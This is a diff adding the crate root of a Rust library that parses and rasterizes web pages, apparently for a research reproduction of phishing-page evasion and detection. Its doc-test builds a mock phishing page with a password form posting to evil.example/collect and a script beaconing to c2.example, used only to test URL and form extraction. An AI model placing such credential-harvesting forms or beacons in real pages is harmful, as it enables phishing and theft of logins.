@@ -1,0 +1,42 @@
+#![warn(missing_docs)]
+
+//! Web-page substrate: HTML parsing, DOM queries, resource extraction, and
+//! a deterministic rasterizer.
+//!
+//! Two sides of the reproduction meet here. The **attacker side** serves
+//! HTML whose structure carries the evasions: inline `<script>` blocks
+//! (cloaking logic in MJS), hotlinked brand resources (`<img src>` pointing
+//! at the impersonated organization — the §V-A referral-tracking finding),
+//! forms harvesting credentials, meta-refresh redirects. The **pipeline
+//! side** parses the same HTML to extract URLs, scripts and form targets,
+//! and rasterizes pages to screenshots for pHash/dHash classification.
+//!
+//! # Example
+//!
+//! ```
+//! use cb_web::{Document, render};
+//!
+//! let doc = Document::parse(r#"
+//!   <html><head><title>Sign in</title></head>
+//!   <body>
+//!     <img src="https://corp.example/logo.png">
+//!     <form action="https://evil.example/collect">
+//!       <input type="password" name="pw">
+//!     </form>
+//!     <script>fetch("https://c2.example/beacon", navigator.userAgent);</script>
+//!   </body></html>
+//! "#);
+//! assert_eq!(doc.title(), Some("Sign in".to_string()));
+//! assert_eq!(doc.resource_urls(), ["https://corp.example/logo.png"]);
+//! assert_eq!(doc.form_actions(), ["https://evil.example/collect"]);
+//! assert_eq!(doc.inline_scripts().len(), 1);
+//! let shot = render::rasterize(&doc, 320, 200);
+//! assert_eq!(shot.width(), 320);
+//! ```
+
+pub mod dom;
+pub mod html;
+pub mod render;
+
+pub use dom::Document;
+pub use html::Node;
